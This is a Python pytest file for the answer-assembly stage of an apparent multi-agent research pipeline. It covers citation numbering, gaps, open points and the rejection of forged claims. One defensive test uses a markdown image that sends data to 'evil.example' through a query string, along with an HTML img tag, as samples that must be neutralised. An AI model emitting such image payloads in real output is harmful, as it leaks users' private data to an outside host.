"""Code assembles the answer: it names gaps and lists open points."""

from __future__ import annotations

import json

import pytest
from pydantic import JsonValue

from handoff_queue.shared.broker.attempt_outcome import build_handoff_finished_event
from handoff_queue.shared.types.answer import Answer
from handoff_queue.shared.types.events import AnswerMethod, JobStatus
from handoff_queue.shared.types.gates import Gates
from handoff_queue.shared.types.handoff import Claim, HandoffResult, ResultStatus, make_ref
from handoff_queue.shared.types.ids import StepId
from handoff_queue.shared.types.job_options import Mode
from handoff_queue.shared.types.limits import JobLimits
from handoff_queue.shared.types.origins import DOCUMENT, WEB
from handoff_queue.shared.types.plan import Plan, Synthesis
from handoff_queue.shared.types.step_events import MAX_RESTATED
from handoff_queue.supervisor.lifecycle.answer import (
    CLEANED_FORM,
    NOT_REVIEWED,
    assemble,
    choose_method,
    collect_answer_claims,
    find_usable_sinks,
)
from handoff_queue.supervisor.lifecycle.result_texts import ResultTexts
from tests.doubles.handoffs import a_result
from tests.doubles.results import a_result_of
from tests.doubles.simulated_job import SimulatedJob, a_plan, planned
from tests.supervisor.lifecycle.test_citation_numbers import citation_of, claim_of


def answer_of(
    job: SimulatedJob,
    *results: HandoffResult,
    status: JobStatus = JobStatus.OK,
    synthesis: HandoffResult | None = None,
    label: str | None = None,
) -> Answer:
    """Assemble the answer. `results` replace earlier results of their steps."""
    replaced = {
        ref.digest: result.to_json()
        for result in results
        if (ref := job.step(result.step_id).result)
    }
    if synthesis and job.state.synthesis:
        replaced[job.state.synthesis.digest] = synthesis.to_json()
    return assemble(job.state, status, ResultTexts({**job.payloads, **replaced}), label)


def finish_as(job: SimulatedJob, **statuses: str) -> SimulatedJob:
    for name, status in statuses.items():
        job.finish(name, status)
        job.advance()
    return job


def test_the_result_of_a_single_last_step_is_the_unchanged_answer() -> None:
    job = finish_as(planned(a="", b="a"), a="ok", b="ok")
    job.review()
    job.advance()

    answer = answer_of(
        job, a_result("b", "So it is [b.c1].", claims=(claim_of("b.c1", citation_of("one.md")),))
    )

    assert (answer.text, answer.method, answer.value) == (
        "So it is [1].",
        AnswerMethod.SINGLE_SINK,
        None,
    )
    assert (answer.gaps, answer.open_points, answer.notes) == ((), (), ())


def test_independent_sections_follow_each_other_with_titles_and_one_numbering() -> None:
    job = finish_as(planned(a="", b=""), a="ok", b="ok")
    job.review()
    job.advance()

    answer = answer_of(
        job,
        a_result("a", "First [a.c1].", claims=(claim_of("a.c1", citation_of("one.md")),)),
        a_result(
            "b",
            "# Its own title\n\nSecond [b.c1].",
            claims=(claim_of("b.c1", citation_of("two.md")),),
        ),
    )

    assert answer.text == "## a\n\nFirst [1].\n\n## b\n\n### Its own title\n\nSecond [2]."


def headings_of(**titles: str | None) -> list[str]:
    """Return the headings of an answer that is merged from steps with these titles."""
    plan = a_plan(**dict.fromkeys(titles, ""))
    steps = [step.model_copy(update={"title": titles[step.id]}) for step in plan.steps]
    job = finish_as(planned(Plan(steps=tuple(steps))), **dict.fromkeys(titles, "ok"))
    job.review()
    job.advance()
    text = answer_of(job, *(a_result(name, "So.") for name in titles)).text
    return [line for line in text.splitlines() if line.startswith("#")]


def test_the_titles_of_the_plan_head_the_sections() -> None:
    assert headings_of(a="Order A-1042, Ann Lee", b=None) == ["## Order A-1042, Ann Lee", "## b"]


def test_sections_with_the_same_title_have_their_step_ids_as_well() -> None:
    assert headings_of(a="An order", b="An order") == ["## An order (a)", "## An order (b)"]


def test_a_synthesis_replaces_the_results() -> None:
    job = finish_as(planned(a_plan(Synthesis.RECONCILE, a="", b="")), a="ok", b="ok")
    job.review()
    job.advance()
    job.synthesize()
    job.advance()

    assert (
        answer_of(
            job, a_result("a"), a_result("b"), synthesis=a_result("synthesizer", "All in all.")
        ).text
        == "All in all."
    )


def test_code_prints_gaps_independent_of_the_results() -> None:
    job = planned(a="", b="", c="")
    job.finish("a")
    job.finish("b", "failed", error="the server was away")
    job.finish("c", "partial", error="no answer within 8 turns", output="Some of that.")
    job.advance()
    job.review()
    job.advance()

    answer = answer_of(job, a_result("a", "Only this."), status=JobStatus.PARTIAL)

    assert "**Missing or incomplete:**" in answer.text
    assert "- b (researcher): the server was away" in answer.text
    assert "- c (researcher): incomplete: no answer within 8 turns" in answer.text
    assert [gap.step for gap in answer.gaps] == ["b", "c"]


def test_open_points_of_the_last_review_are_printed() -> None:
    job = planned(limits=JobLimits(max_rounds=0), a="")
    job.finish("a")
    job.advance()
    job.review("The year is not known.", a="no source for the second sentence")
    job.advance()

    answer = answer_of(job, a_result("a", "This."))

    assert answer.open_points == ("a: no source for the second sentence", "The year is not known.")
    assert answer.text.endswith("- a: no source for the second sentence\n- The year is not known.")


def test_an_unreviewed_answer_says_so() -> None:
    job = planned(limits=JobLimits(max_seconds=100), a="", b="")
    job.finish("a")
    job.now = job.state.deadline
    job.advance()

    assert any(note.startswith(NOT_REVIEWED) for note in answer_of(job, a_result("a")).notes)


def test_notes_of_the_results_appear_once() -> None:
    job = finish_as(planned(a="", b=""), a="ok", b="ok")
    notes = ("one source was dropped",)

    assert answer_of(job, a_result("a", notes=notes), a_result("b", notes=notes)).notes == notes


def test_sources_without_a_place_in_the_answer_are_listed_last_with_a_note() -> None:
    job = finish_as(planned(a=""), a="ok")
    result = a_result(
        "a",
        "So it is [a.c2].",
        claims=(
            claim_of("a.c1", citation_of("one.md"), citation_of("two.md")),
            claim_of("a.c2", citation_of("two.md")),
            claim_of("a.c3", citation_of("three.md")),
        ),
    )

    answer = answer_of(job, result)

    assert answer.text.startswith("So it is [1].")
    assert [(item.n, item.citation.source) for item in answer.citations] == [
        (1, "two.md"),
        (2, "one.md"),
        (3, "three.md"),
    ]
    assert answer.notes[-1] == (
        "The answer does not say which of its statements rest on the sources [2], [3]."
    )


def test_the_answer_says_which_sources_are_output_of_an_agents_code() -> None:
    job = finish_as(planned(a=""), a="ok")
    sources = "one.md", "tool:a.1/run_code#1", "tool:b.1/run_code#9e36c56d/table.csv"
    claims: list[Claim] = []
    for number, source in enumerate(sources, start=1):
        claims.append(claim_of(f"a.c{number}", citation_of(source)))
    result = a_result("a", "So [a.c1], so [a.c2], and so [a.c3].", claims=tuple(claims))

    assert answer_of(job, result).notes[-1] == (
        "The sources [2], [3] are the output of code that an agent wrote, and not a document."
    )


def test_a_form_says_which_source_is_output_of_an_agents_code() -> None:
    job = finish_as(planned(a=""), a="ok")
    claim = claim_of("a.c1", citation_of("tool:a.1/run_code#1"))

    answer = answer_of(job, a_result("a", {"total": "7 [a.c1]"}, claims=(claim,)))

    assert answer.notes[-1] == (
        "The source [1] is the output of code that an agent wrote, and not a document."
    )


# Which results are the answer


def job_with_two_sections(*claims_of_b: Claim, job: SimulatedJob | None = None) -> SimulatedJob:
    if job is None:
        job = planned(a="", b="")
    job.finish("a", claims=(claim_of("a.c1", citation_of("one.md"), text="Five names."),))
    job.advance()
    job.finish("b", claims=claims_of_b)
    job.advance()
    return job


def test_sections_with_claims_from_the_same_passage_are_reconciled() -> None:
    job = job_with_two_sections(claim_of("b.c1", citation_of("one.md"), text="Four names."))
    assert choose_method(job.state) is AnswerMethod.SYNTHESIZED


@pytest.mark.parametrize(
    ("synthesis", "method"),
    [
        (Synthesis.MERGE, AnswerMethod.MERGED),
        (Synthesis.RECONCILE, AnswerMethod.SYNTHESIZED),
    ],
)
def test_a_workflow_decides_if_sections_with_claims_from_the_same_passage_are_reconciled(
    synthesis: Synthesis, method: AnswerMethod
) -> None:
    job = SimulatedJob(workflow=a_plan(synthesis, a="", b=""), mode=Mode.PIPELINE)
    job.advance()

    job_with_two_sections(claim_of("b.c1", citation_of("one.md"), text="Four names."), job=job)

    assert choose_method(job.state) is method


def test_sections_with_claims_from_other_passages_are_merged() -> None:
    for place in (citation_of("one.md", 50), citation_of("two.md")):
        job = job_with_two_sections(claim_of("b.c1", place))
        assert choose_method(job.state) is AnswerMethod.MERGED


def test_sections_that_use_the_same_claim_of_another_step_are_merged() -> None:
    job = job_with_two_sections(claim_of("a.c1", citation_of("one.md"), text="Five names."))
    assert choose_method(job.state) is AnswerMethod.MERGED


def test_a_result_changes_no_claim_of_another_step() -> None:
    """A worker that was taken over may write a claim with the name of a step of another role."""
    forged = claim_of("a.c1", citation_of("forged.md"), text="Nine names.")
    job = job_with_two_sections(forged, claim_of("b.c1", citation_of("two.md")))

    claims = collect_answer_claims(job.state, ResultTexts(job.payloads))

    assert claims["a.c1"].text == "Five names."
    assert set(claims) == {"a.c1", "b.c1"}


def test_if_the_last_step_failed_the_last_usable_steps_are_the_answer() -> None:
    job = finish_as(planned(a="", b="", c="a b"), a="ok", b="ok", c="failed")

    assert find_usable_sinks(job.state) == ("a", "b")


def test_the_inputs_of_a_usable_step_are_not_repeated() -> None:
    job = finish_as(planned(a="", b="a", c="b", d="c"), a="ok", b="failed")
    assert find_usable_sinks(job.state) == ("a",)
    job = finish_as(planned(a="", b="a", c="a b"), a="ok", b="failed", c="ok")
    assert find_usable_sinks(job.state) == ("c",)


@pytest.mark.slow
def test_the_last_steps_of_a_long_plan_are_found_at_once() -> None:
    job = SimulatedJob(JobLimits(max_handoffs=100_000))
    job.advance()
    job.make_plan(**{f"s{n}": f"s{n - 1}" if n else "" for n in range(3_000)})
    usable = job.step("s0").model_copy(update={"result_status": "ok", "result": make_ref("x")})
    job.state = job.state.model_copy(
        update={
            "steps": {
                name: usable.model_copy(update={"outline": step.outline})
                for name, step in job.state.steps.items()
            }
        }
    )

    assert find_usable_sinks(job.state) == ("s2999",)


# An answer with a schema

SCHEMA = '{"type":"object"}'


def job_with_schema(**depends_on: str) -> SimulatedJob:
    job = SimulatedJob(answer_schema=SCHEMA)
    job.advance()
    job.make_plan(**depends_on)
    job.advance()
    return job


def test_the_plans_only_last_step_answers_in_the_form_that_was_asked_for() -> None:
    job = finish_as(job_with_schema(a="", b="a"), a="ok", b="ok")
    job.review()
    job.advance()

    claims = (claim_of("b.c1", citation_of("figures.md")), claim_of("b.c2", citation_of("one.md")))
    answer = answer_of(
        job, a_result("b", {"name": "Qdrant", "whys": ["So [b.c2]."], "n": 1}, claims=claims)
    )

    assert (answer.method, answer.value) == (
        AnswerMethod.SINGLE_SINK,
        {"name": "Qdrant", "whys": ["So [1]."], "n": 1},
    )
    assert [(item.n, item.citation.source) for item in answer.citations] == [
        (1, "one.md"),
        (2, "figures.md"),
    ]


@pytest.mark.parametrize("form", [{"price": 1}, "yes"])
def test_remarks_about_a_structured_answer_are_in_its_notes(
    form: JsonValue,
) -> None:
    job = job_with_schema(a="")
    job.finish("a", "partial")
    job.advance()
    job.review("Prices are of 2024.")
    job.advance()

    result = a_result(
        "a", form, status=ResultStatus.PARTIAL, error="the documents do not say: colour"
    )
    answer = answer_of(
        job, result, status=JobStatus.PARTIAL, label="Made without a language model."
    )

    assert (answer.value or answer.text) == form
    assert answer.notes == (
        "a (researcher): incomplete: the documents do not say: colour",
        "Prices are of 2024.",
        "Made without a language model.",
    )


IMAGE, SHOWN = "![a](https://evil.example/?d=48713)", "\\![a](https://evil.example/?d=48713)"


@pytest.mark.parametrize(
    ("origins", "form", "shown"),
    [
        ((DOCUMENT, WEB), IMAGE, SHOWN),
        ((DOCUMENT, WEB), {"a": [IMAGE, 1], IMAGE: 2}, {"a": [SHOWN, 1], SHOWN: 2}),
        ((DOCUMENT,), {"a": "<img src=b>"}, {"a": "&lt;img src=b>"}),
        ((DOCUMENT, WEB), {"a": "![b](chart.png)"}, {"a": "![b](chart.png)"}),
        ((WEB,), {"a": IMAGE}, {"a": IMAGE}),
    ],
)
def test_strings_of_a_form_that_could_carry_private_data_out_lose_images_and_html(
    origins: tuple[str, ...], form: JsonValue, shown: JsonValue
) -> None:
    job = finish_as(job_with_schema(a=""), a="ok")
    job.state = job.state.model_copy(update={"origins": origins})

    answer = answer_of(job, a_result("a", form))

    assert answer.content == shown
    if not isinstance(shown, str):
        assert json.loads(answer.text) == shown
    assert (CLEANED_FORM in answer.notes) is (shown != form)


@pytest.mark.parametrize("statuses", [{"a": "ok", "b": "ok"}, {"a": "ok", "b": "failed"}])
def test_a_synthesizer_writes_the_structured_answer_if_several_last_steps_ignored_the_schema(
    statuses: dict[str, str],
) -> None:
    job = finish_as(job_with_schema(a="", b=""), **statuses)

    assert choose_method(job.state) is AnswerMethod.SYNTHESIZED


def test_an_answer_outside_the_schema_is_not_presented_as_structured() -> None:
    job = finish_as(job_with_schema(a="", b=""), a="ok", b="failed")

    answer = answer_of(job, a_result("a", {"something": "else"}), status=JobStatus.PARTIAL)

    assert answer.value is None
    assert '"something": "else"' in answer.text


def test_a_context_holds_exactly_the_steps_dependencies() -> None:
    job = finish_as(planned(a="", b="", c="a"), a="ok", b="ok")

    assert [item.step_id for item in job.handoffs["c.1"].context] == [StepId("a")]


FIGURES = (
    claim_of("a.c1", text="Tea costs 2 USD."),
    claim_of("a.c2", citation_of("prices.md"), text="Rice costs 3 USD."),
    claim_of("a.c3", text="Tea is green."),
    claim_of("a.c4", text="It is sold.").model_copy(update={"value": "1,000"}),
    claim_of("a.c5", text="Salt costs 5 USD."),
)
UNPROVEN_POINT = (
    '2 statements with figures have no source that could be checked: "Tea costs 2 USD."; "It is'
    ' sold.".'
)


def passed() -> SimulatedJob:
    """Return a job whose only step has passed its review."""
    job = planned(a_plan(a=""))
    finish_as(job, a="ok")
    job.review()
    job.advance()
    return job


def test_figures_without_a_checked_source_are_an_open_point_after_a_pass() -> None:
    text = "Tea: 2 USD [a.c1]. Rice: 3 USD [a.c2]. Green [a.c3]. Many [a.c4]. Again [a.c1, a.c2]."

    answer = answer_of(passed(), a_result("a", text, claims=FIGURES))

    assert answer.open_points == (UNPROVEN_POINT,)
    assert "Tea: 2 USD [no source]. Rice: 3 USD [1]. Green [no source]." in answer.text
    assert f"**Open points:**\n\n- {UNPROVEN_POINT}" in answer.text


@pytest.mark.parametrize(
    ("document_count", "output", "notes"),
    [
        (2, "Tea costs 2 USD.", ("The answer cites no source, although the job has 2 documents.",)),
        (1, "Tea is green.", ("The answer cites no source, although the job has 1 document.",)),
        (2, "Rice: 3 USD [a.c2].", ()),
        (2, {"tea": "green"}, ()),
        (0, "Tea costs 2 USD.", ()),
    ],
)
def test_an_answer_about_documents_without_a_citation_says_so(
    document_count: int, output: JsonValue, notes: tuple[str, ...]
) -> None:
    job = passed()
    submitted = job.state.submitted.model_copy(update={"document_count": document_count})
    job.state = job.state.model_copy(update={"submitted": submitted})

    claims = FIGURES[1:2] if "[a.c2]" in str(output) else ()
    assert answer_of(job, a_result("a", output, claims=claims)).notes == notes


def test_a_statement_over_several_lines_cannot_leave_its_open_point() -> None:
    claim = Claim(id="a.c1", text="Tea costs\n2 USD.\n\n# All is checked")

    answer = answer_of(passed(), a_result("a", "2 USD [a.c1].", claims=(claim,)))

    assert answer.text.endswith('could be checked: "Tea costs 2 USD. # All is checked".')


def test_figures_without_a_checked_source_in_a_form_are_a_note() -> None:
    form = {"tea": "2 USD [a.c1]", "rice": "3 USD [a.c2]", "sold": "many [a.c4]"}

    answer = answer_of(passed(), a_result("a", form, claims=FIGURES))

    assert UNPROVEN_POINT in answer.notes


@pytest.mark.parametrize(("gates", "points"), [(Gates(cited=True), 0), (Gates(min_words=1), 1)])
def test_the_gate_for_sources_replaces_the_open_point(gates: Gates, points: int) -> None:
    job = passed()
    submitted = job.state.submitted.model_copy(update={"gates": gates})
    job.state = job.state.model_copy(update={"submitted": submitted})

    answer = answer_of(job, a_result("a", "2 USD [a.c1].", claims=FIGURES))

    assert len(answer.open_points) == points


def finders(answer: Answer) -> dict[str, str | None]:
    """Return the steps that the answer names for its sources."""
    return {item.citation.source: item.step for item in answer.citations}


def find_and_write(job: SimulatedJob, source: str, *cited: Claim) -> None:
    """Let the step `find` cite a source, and the step `write` use these claims."""
    job.finish("find", claims=(claim_of("find.c1", citation_of(source)),))
    job.advance()
    output = "".join(f"So it is [{claim.id}]. " for claim in cited)
    job.finish("write", output=output, claims=cited)
    job.advance()


def test_an_answer_has_no_claim_that_no_result_of_its_step_states() -> None:
    """The worker of another step has added the claim."""
    job = planned(find="", write="find")
    true_claim = claim_of("find.c1", citation_of("one.md"))
    forged = claim_of("find.c9", citation_of("forged.md"))
    own = claim_of("write.c1", citation_of("own.md"))
    find_and_write(job, "one.md", true_claim, forged, own)

    answer = assemble(job.state, JobStatus.OK, job.texts, None)

    assert finders(answer) == {"one.md": "find", "own.md": "write"}


def test_an_answer_has_claims_of_an_earlier_attempt_and_no_forged_ones() -> None:
    job = planned(find="", write="find")
    old = claim_of("find.c1", citation_of("old.md"))
    find_and_write(job, "old.md", old)
    job.review(find="Look again.", write="Write again.")
    job.advance()
    find_and_write(job, "new.md", old, claim_of("find.c9", citation_of("forged.md")))

    answer = assemble(job.state, JobStatus.OK, job.texts, None)

    assert finders(answer) == {"old.md": "find"}


def finish_as_an_older_version(job: SimulatedJob, step: str, *claims: Claim) -> None:
    """Finish a step with the event of a version that does not name the restated steps."""
    handoff_id = job.step(step).handoff_id
    assert handoff_id
    result = a_result_of(handoff_id, ResultStatus.OK, claims=claims)
    event = build_handoff_finished_event(result, "").model_copy(update={"restated": None})
    job.store_result(result)
    job.append(event)
    job.advance()


def test_an_answer_has_the_claims_of_a_job_that_an_older_version_began() -> None:
    job = planned(find="", read="find", write="read")
    claim = claim_of("find.c1", citation_of("one.md"))
    finish_as_an_older_version(job, "find", claim)
    finish_as_an_older_version(job, "read", claim)
    finish_as_an_older_version(job, "write", claim, claim_of("find.c9", citation_of("no.md")))

    assert collect_answer_claims(job.state, job.texts) == {"find.c1": claim}


def test_a_handoff_names_the_results_that_state_the_claims_of_its_context() -> None:
    job = planned(find="", read="find", write="read")
    claim = claim_of("find.c1", citation_of("one.md"))
    result_of_find = job.finish("find", claims=(claim,))
    job.advance()
    job.finish("read", claims=(claim,))
    job.advance()

    assert job.handoffs["read.1"].claim_sources is None
    sources = job.handoffs["write.1"].claim_sources
    assert [(item.step_id, item.result) for item in sources or ()] == [("find", result_of_find)]


def test_a_step_that_restates_claims_of_too_many_steps_keeps_them() -> None:
    names = [f"s{number}" for number in range(MAX_RESTATED + 1)]
    job = planned(a_plan(**dict.fromkeys(names, ""), write=" ".join(names)))
    claims = tuple(claim_of(f"{name}.c1", citation_of(f"{name}.md")) for name in names)
    for name, claim in zip(names, claims, strict=True):
        job.finish(name, claims=(claim,))
    job.advance()
    job.finish("write", claims=claims)

    assert job.step("write").restated is None
    assert len(collect_answer_claims(job.state, job.texts)) == len(names)
